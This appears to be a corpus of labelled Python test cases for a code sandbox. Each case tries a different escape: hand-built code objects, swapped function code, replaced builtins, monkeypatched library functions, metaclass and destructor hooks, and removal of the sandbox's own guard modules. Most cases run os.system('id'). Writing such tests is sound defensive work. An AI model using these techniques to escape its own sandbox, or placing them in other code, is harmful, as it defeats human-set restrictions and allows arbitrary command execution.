#--- codetype-build: a code object from parts
import types
c = (lambda: 0).__code__
new = types.CodeType(0, 0, 0, 0, 2, 67, b"\x97\x00d\x00S\x00", (None,), (), (), "f", "f", "f", 1, b"", b"", (), ())
types.FunctionType(new, {})()
#--- codetype-from: imported by name
from types import CodeType, FunctionType
print(CodeType, FunctionType(compile("1", "", "eval"), globals())())
#--- codetype-by-type: the class without types
C = type((lambda: 0).__code__)
F = type(lambda: 0)
f = F(compile("__import__('os').system('id')", "", "eval"), {"__builtins__": __builtins__})
f()
#--- functiontype-exec: a function without exec
import types
co = compile("__import__('os').system('id')", "<s>", "eval")
types.FunctionType(co, globals())()
#--- functiontype-new-globals: a function moved to other globals
import types
def f():
    return system("id")
import os
types.FunctionType(f.__code__, vars(os))()
#--- lambdatype-alias: LambdaType is the same class
import types
types.LambdaType(compile("__import__('os')", "", "eval"), {})().system("id")
#--- code-replace: consts swapped by replace
def f():
    return "harmless"
f.__code__ = f.__code__.replace(co_consts=(None, "changed"))
print(f())
#--- code-swap: the code of another function
def safe(x):
    return x
def evil(x):
    return __import__("os").system(x)
safe.__code__ = evil.__code__
safe("id")
#--- code-swap-library: a library function's code replaced
import json
def loads(s, **kw):
    __import__("os").system("id")
json.dumps.__code__ = loads.__code__
#--- code-swap-setattr: the same by setattr
def a():
    return 1
def b():
    return __import__("os").system("id")
setattr(a, "__code__", getattr(b, "__code__"))
a()
#--- code-replace-bytes: raw bytecode put in
def f(a=1):
    return a
f.__code__ = f.__code__.replace(co_code=bytes([151, 0, 100, 255, 83, 0]))
f()
#--- code-oob-const: index beyond the constants
f = lambda: None
f.__code__ = f.__code__.replace(co_code=b"\x97\x00\x90\xffd\xffS\x00", co_consts=())
f()
#--- celltype-function: a closure by hand
import types
def outer(v):
    def inner():
        return v("id")
    return inner
code = outer(None).__code__
types.FunctionType(code, {}, "x", None, (types.CellType(__import__("os").system),))()
#--- moduletype-exec: a module made and filled
import types
m = types.ModuleType("m")
exec("import os\nr = os.popen('id').read()", m.__dict__)
print(m.r)
#--- methodtype-bind: a bound method around a command
import os, types
types.MethodType(os.system, "id")()
#--- types-dynamicclassattribute-new-class: a class built with a hostile body
import os, types
types.new_class("A", (), {}, lambda ns: os.system("id"))
#--- builtins-replace-open: open replaced for everyone
import builtins
real = builtins.open
def spy(*a, **k):
    real("/tmp/log", "a").write(repr(a))
    return real(*a, **k)
builtins.open = spy
#--- builtins-replace-import: __import__ replaced
import builtins
old = builtins.__import__
def hook(name, *a, **k):
    return old(name, *a, **k)
builtins.__import__ = hook
#--- builtins-setattr: print replaced by setattr
import builtins
setattr(builtins, "print", exec)
print("import os; os.system('id')")
#--- builtins-dict-write: a name written into the dictionary
import builtins
builtins.__dict__["len"] = eval
len("__import__('os').system('id')")
#--- builtins-update: several names written at a time
import builtins
vars(builtins).update(int=exec, str=eval)
int("import os; os.system('id')")
#--- builtins-delattr: a guard taken away
import builtins
del builtins.isinstance
#--- dunder-builtins-assign: the hidden global replaced
__builtins__ = {"print": exec}
#--- dunder-builtins-item: one entry of the hidden global
__builtins__["isinstance"] = lambda *a: True
#--- dunder-builtins-attribute: one attribute of the hidden global
__builtins__.isinstance = lambda *a: True
#--- global-shadow-exec: a harmless name bound to exec
print = exec
print("import os; os.system('id')")
#--- monkeypatch-os-path: a harmless function replaced
import os
os.path.exists = lambda p: os.system("id") == 0
os.path.exists("x")
#--- monkeypatch-json: the parser replaced
import json
json.loads = eval
json.loads("__import__('os').system('id')")
#--- monkeypatch-logging-emit: a handler replaced
import logging, os
logging.Handler.handle = lambda self, rec: os.system(rec.getMessage())
logging.getLogger().addHandler(logging.StreamHandler())
logging.warning("id")
#--- monkeypatch-sys-exit: the exit replaced
import sys
sys.exit = lambda *a: None
#--- monkeypatch-sys-stdout: output goes to a hook
import sys, builtins
class Tee:
    def write(self, text):
        builtins.exec(text)
    def flush(self):
        pass
sys.stdout = Tee()
print("import os; os.system('id')")
#--- monkeypatch-mock-patch: patched by the mock library
from unittest.mock import patch
import os
with patch("builtins.print", os.system):
    print("id")
#--- monkeypatch-guard-module: the sandbox's own hooks taken out
import sys
for name in list(sys.modules):
    if "sandbox" in name or "guard" in name or "belljar" in name:
        del sys.modules[name]
sys.meta_path[:] = [f for f in sys.meta_path if "guard" not in repr(f).lower()]
#--- monkeypatch-frame-locals: globals of the runner changed
import sys
frame = sys._getframe()
while frame:
    frame.f_globals["ALLOWED"] = {"os", "subprocess"}
    frame = frame.f_back
#--- monkeypatch-facade-undo: the real os behind a facade
import os
real = os.__dict__.get("_module") or os.__getattribute__("_module")
real.system("id")
#--- monkeypatch-facade-class: the facade's class opened
import os
print(type(os).__getattr__.__globals__)
#--- monkeypatch-object-setattr: read-only guards gone round
import os
object.__setattr__(os, "allowed", ["system"])
os.system("id")
#--- metaclass-call: a metaclass that runs a command
import os
class Meta(type):
    def __call__(cls, *a):
        return os.system(*a)
class Widget(metaclass=Meta):
    pass
Widget("id")
#--- metaclass-prepare: names evaluated in the class body
class Ns(dict):
    def __missing__(self, key):
        return __import__(key)
class Meta(type):
    @classmethod
    def __prepare__(mcs, name, bases):
        return Ns()
class A(metaclass=Meta):
    r = os.system("id")
#--- set-name-hook: run while a class is made
class Hook:
    def __set_name__(self, owner, name):
        __import__("os").system("id")
class A:
    x = Hook()
#--- del-hook: run when an object dies
class Bye:
    def __del__(self):
        __import__("os").system("id")
b = Bye()
del b
#--- class-assignment-swap: an object's class replaced
class Safe:
    def go(self):
        return 1
class Evil:
    def go(self):
        return __import__("os").system("id")
s = Safe()
s.__class__ = Evil
s.go()
#--- module-getattr-hook: a module-level __getattr__
import sys
def __getattr__(name):
    return __import__("os").system(name)
getattr(sys.modules[__name__], "id")
#--- audit-closure-dict: a mapping proxy opened by gc
import gc
d = gc.get_referents(str.__dict__)[0]
d["upper"] = lambda s: __import__("os").system(s)
"id".upper()
